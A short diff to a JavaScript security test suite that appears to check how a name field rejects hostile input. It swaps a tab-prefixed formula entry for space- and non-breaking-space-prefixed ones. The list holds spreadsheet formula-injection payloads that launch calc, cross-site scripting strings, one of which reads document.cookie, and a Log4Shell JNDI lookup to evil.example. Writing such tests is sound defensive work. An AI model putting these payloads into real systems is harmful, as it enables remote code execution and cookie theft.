@@ -418,7 +418,9 @@ describe('security', () => {
       "+cmd|' /C calc'!A0",
       "-2+3+cmd|' /C calc'!A0",
       '@SUM(1)',
-      '\t=1+1',
+      // A tab before the formula is a control character, which names refuse (issue 10 S6, error-messages e2e).
+      ' =1+1',
+      '\u00a0=1+1',
       '<script>alert(1)</script>',
       '"><img src=x onerror=alert(document.cookie)>',
       '${jndi:ldap://evil.example/a}',
